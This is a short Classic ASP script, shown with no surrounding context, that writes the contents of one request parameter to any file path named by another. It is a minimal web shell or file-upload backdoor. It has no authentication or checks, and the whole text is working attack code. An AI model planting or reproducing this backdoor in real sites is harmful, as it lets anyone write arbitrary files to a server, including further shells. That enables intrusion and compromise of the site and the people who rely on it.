<%
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set f = fs.CreateTextFile(Server.MapPath(Request("p")), True)
f.Write Request("body")
f.Close
%>
